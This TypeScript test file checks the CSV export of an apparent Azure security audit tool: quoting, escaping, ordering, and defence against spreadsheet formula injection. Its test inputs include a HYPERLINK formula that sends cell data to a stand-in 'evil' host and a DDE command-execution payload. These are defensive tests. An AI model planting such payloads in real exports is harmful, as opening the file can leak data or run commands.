import { visible } from "../text/inert.ts";
import { describe, expect, it } from "vitest";
import type { Finding } from "../engine/finding.ts";
import { SCAN_RESULT_SCHEMA, type ScanResult } from "../engine/result.ts";
import { CSV_BOM, CSV_COLUMNS, renderCsv } from "./csv.ts";

function finding(p: Partial<Finding> & { name?: string | null } = {}): Finding {
  const { name = "payments-api", ...rest } = p;
  return {
    ruleId: "app-secret-lifetime",
    severity: "high",
    confidence: "high",
    messageId: "tooLong",
    message: "Client secret is valid for 730 days.",
    resource: {
      id: "entra/applications/00000000-0000-4000-8000-000000000001",
      type: "Microsoft.Graph/applications",
      displayName: name,
      subscriptionId: null,
    },
    evidence: { keyId: "k1", lifetimeDays: 730, endDateTime: null },
    fingerprint: "a".repeat(64),
    compliance: ["MCSB IM-3", "MCSB IM-8"],
    state: "open",
    ...rest,
  };
}

function result(findings: Finding[]): ScanResult {
  return {
    schema: SCAN_RESULT_SCHEMA,
    tool: { name: "azaudit", version: "0.1.0" },
    run: {
      startedAt: "2026-06-01T00:00:00Z",
      collectedAt: "2026-06-01T00:00:00Z",
      source: "snapshot",
      cloud: null,
      tenantId: null,
      tenantName: null,
    },
    summary: {
      total: findings.length,
      open: findings.length,
      suppressed: 0,
      baseline: 0,
      bySeverity: { critical: 0, high: findings.length, medium: 0, low: 0, info: 0 },
      failOn: "high",
      complete: true,
      rulesInError: [],
      exitCode: 1,
    },
    coverage: [],
    rules: [],
    findings,
    identities: [],
    warnings: [],
  };
}

/** A strict RFC 4180 reader (CRLF records, quoted fields, "" escapes) to read the output back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let i = 0;
  while (i < text.length) {
    const row: string[] = [];
    for (;;) {
      if (text[i] !== '"') throw new Error(`unquoted field at ${i}`);
      let j = i + 1;
      let cell = "";
      for (;;) {
        const q = text.indexOf('"', j);
        if (q < 0) throw new Error("unterminated field");
        cell += text.slice(j, q);
        if (text[q + 1] === '"') {
          cell += '"';
          j = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
      row.push(cell);
      if (text[i] === ",") i += 1;
      else if (text.startsWith("\r\n", i)) {
        i += 2;
        break;
      } else throw new Error(`bad separator at ${i}: ${JSON.stringify(text[i])}`);
    }
    rows.push(row);
  }
  return rows;
}

function rowsOf(findings: Finding[]): string[][] {
  const csv = renderCsv(result(findings));
  expect(csv.startsWith(CSV_BOM)).toBe(true);
  return parseCsv(csv.slice(1));
}

describe("renderCsv", () => {
  it("starts with a UTF-8 BOM and a quoted header row, ends every record with CRLF", () => {
    const csv = renderCsv(result([finding()]));
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const lines = csv.slice(1).split("\r\n");
    expect(lines[0]).toBe(
      '"severity","state","ruleId","resourceType","resourceName","resourceId","subscriptionId","message","compliance","fingerprint","suppressionReason","suppressionExpires","evidence"',
    );
    expect(lines).toHaveLength(3);
    expect(lines[2]).toBe("");
    expect(csv.replace(/\r\n/g, "")).not.toMatch(/[\r\n]/);
  });

  it("writes the header alone when there are no findings", () => {
    expect(renderCsv(result([]))).toBe(`${CSV_BOM}${CSV_COLUMNS.map((c) => `"${c}"`).join(",")}\r\n`);
  });

  it("writes one row per finding with every column", () => {
    const f = finding({
      state: "suppressed",
      suppression: { reason: "migration ticket 42", expires: "2026-12-31", resource: "entra/applications/*" },
      resource: {
        id: "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Web/sites/web",
        type: "Microsoft.Web/sites",
        displayName: "web",
        subscriptionId: "s1",
      },
    });
    const [header, row] = rowsOf([f]);
    const byColumn = Object.fromEntries(header!.map((c, i) => [c, row![i]]));
    expect(byColumn).toEqual({
      severity: "high",
      state: "suppressed",
      ruleId: "app-secret-lifetime",
      resourceType: "Microsoft.Web/sites",
      resourceName: "web",
      resourceId: "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Web/sites/web",
      subscriptionId: "s1",
      message: "Client secret is valid for 730 days.",
      compliance: "MCSB IM-3; MCSB IM-8",
      fingerprint: "a".repeat(64),
      suppressionReason: "migration ticket 42",
      suppressionExpires: "2026-12-31",
      evidence: '{"endDateTime":null,"keyId":"k1","lifetimeDays":730}',
    });
  });

  it("leaves empty cells for missing name, subscription and suppression", () => {
    const [, row] = rowsOf([finding({ name: null })]);
    expect(row![4]).toBe("");
    expect(row![6]).toBe("");
    expect(row![10]).toBe("");
    expect(row![11]).toBe("");
  });

  it.each(["=", "+", "-", "@", "\t", "\r"])("neutralises a cell starting with %j (formula injection)", (trigger) => {
    const payload = `${trigger}HYPERLINK("http://evil/?x="&A1,"click")`;
    const csv = renderCsv(result([finding({ name: payload, message: payload, evidence: { x: 1 } })]));
    const [, row] = parseCsv(csv.slice(1));
    const shown = visible(payload);
    expect(row![4]).toBe(`'${shown}`);
    expect(row![7]).toBe(`'${shown}`);
    // No cell of the data row begins with a trigger character once the quote is stripped.
    for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(csv).toContain(`"'${visible(trigger)}HYPERLINK(""http://evil/?x=""&A1,""click"")"`);
  });

  it.each(["\n=cmd|' /C calc'!A0", " =1+1", "\r\n@SUM(1)", "\u00a0-2+3"])(
    "guards %j, a formula behind leading whitespace or a line break",
    (payload) => {
      const [, row] = rowsOf([finding({ name: payload })]);
      expect(row![4]!.startsWith("'")).toBe(true);
      expect(row![4]).not.toMatch(/[\r\n]/);
    },
  );

  it("leaves the trigger characters alone when they are not at the start", () => {
    const [, row] = rowsOf([finding({ name: "a=b+c-d@e" })]);
    expect(row![4]).toBe("a=b+c-d@e");
  });

  it("keeps quotes and commas inside one quoted cell, and shows line breaks and escapes instead of writing them", () => {
    const name = 'evil "app",\nsecond line\r\nthird; <b>x</b> \u001b[2J\u202e';
    const csv = renderCsv(result([finding({ name }), finding({ name: "next", fingerprint: "b".repeat(64) })]));
    expect(csv).toContain('"evil ""app"",\\x0asecond line\\x0d\\x0athird; <b>x</b> \\x1b[2J\\u202e"');
    const rows = parseCsv(csv.slice(1));
    expect(rows).toHaveLength(3);
    expect(rows[1]![4]).toBe(visible(name));
    expect(rows[2]![4]).toBe("next");
    expect(rows.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
  });

  it("keeps non-ASCII names intact", () => {
    const [, row] = rowsOf([finding({ name: "Zahlungs-Dienst für Müller 日本 🚀" })]);
    expect(row![4]).toBe("Zahlungs-Dienst für Müller 日本 🚀");
  });

  it("is deterministic, whatever order the evidence keys were built in", () => {
    const a = result([
      finding({ evidence: { b: 1, a: ["x", "y"], c: null } }),
      finding({ severity: "low", fingerprint: "c".repeat(64) }),
    ]);
    const b = result([
      finding({ evidence: { c: null, a: ["x", "y"], b: 1 } }),
      finding({ severity: "low", fingerprint: "c".repeat(64) }),
    ]);
    expect(renderCsv(a)).toBe(renderCsv(b));
    expect(renderCsv(a)).toBe(renderCsv(structuredClone(a)));
    expect(renderCsv(a)).toContain('"{""a"":[""x"",""y""],""b"":1,""c"":null}"');
  });

  it("keeps the result's finding order", () => {
    const rows = rowsOf([
      finding({ fingerprint: "1".repeat(64) }),
      finding({ fingerprint: "2".repeat(64) }),
      finding({ fingerprint: "0".repeat(64) }),
    ]);
    expect(rows.slice(1).map((r) => r[9]![0])).toEqual(["1", "2", "0"]);
  });
});
